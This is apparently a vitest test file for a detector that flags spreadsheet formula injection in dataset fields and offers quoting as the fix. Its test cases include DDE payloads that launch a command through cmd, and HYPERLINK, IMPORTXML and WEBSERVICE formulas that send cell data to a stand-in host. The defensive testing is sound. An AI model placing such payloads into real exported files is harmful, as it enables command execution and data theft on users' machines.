import { describe, expect, test } from 'vitest';
import { formulas } from './formulas';

const found = (text: string) => formulas({ name: 'completion', use: 'answer', text }, 2);

describe('a cell that a spreadsheet would run', () => {
  test.each([
    '=1+1', '=SUM(A1:A9)', '=A1', '=HYPERLINK("https://example.com?x="&A1,"Click")', '=cmd|\' /C calc\'!A0', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-A1+B2', '+A1*2',
    '\t=1+1', ' =IMPORTXML(CONCAT("https://example.com?v=",A1),"//a")', '"=1+1"', '＝1+1', '=-1', '=+A1', '=\'Sheet 1\'!A1', '=Sheet1!A1', '=WEBSERVICE("https://example.com")', '+SUM(A1:A3)', '=DDE("cmd";"/C calc";"x")', '=yes',
  ])('%s', (text) => {
    const [finding] = found(text);
    expect(finding).toMatchObject({ check: 'active-content', severity: 'warn', where: { row: 2, field: 'completion' }, remedy: { label: 'Quote', replacement: "'" } });
    const { start = 0, end = 0, replacement = '' } = finding?.remedy ?? {};
    expect(found(text.slice(0, start) + replacement + text.slice(end))).toEqual([]);
  });
});

describe('what only begins like a formula', () => {
  test.each([
    '-5', '+5', '-3.5 %', '+49 30 901820', '-12,345.67', '- one\n- two', '-- a dash', '—', '@hana thanks', '@everyone: come', '== Heading ==', '=> next', '=) nice', '= 5 is what it equals, roughly', '+1, I agree', '-1 °C', '-x + 3', '-273.15',
    '+ more', '-5 to 10', '+44 (0)20 7946 0958', '-e is an option (see the manual)', '--help', '-v', '@media (max-width: 100px)', '-2x + 3y = 7', '+/- 3', '-', '=', '===', "'=1+1", 'a = 1', 'Sum: =SUM(A1)', '', '   ', '- SUM: 5', '+A', '-10/20',
  ])('%s', (text) => {
    expect(found(text)).toEqual([]);
  });
});
